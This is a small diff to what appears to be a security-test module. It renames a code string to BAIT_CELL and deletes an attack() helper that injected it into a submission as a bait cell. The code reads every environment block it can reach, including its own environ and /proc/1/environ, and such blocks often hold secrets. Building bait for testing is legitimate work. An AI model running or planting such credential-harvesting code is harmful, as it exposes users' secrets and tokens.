@@ -1,7 +1,6 @@
-"""Collects every environment that it can see: its own, the block that the kernel gave it, its parents' and
-everybody's."""
+"""Collects every environment that it can see: its own, the kernel's block, its parents' and everybody's."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import ctypes, glob, os, subprocess
 
 environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
@@ -27,7 +26,3 @@ tried(
     lambda: open("/proc/1/environ").read(),
 )
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
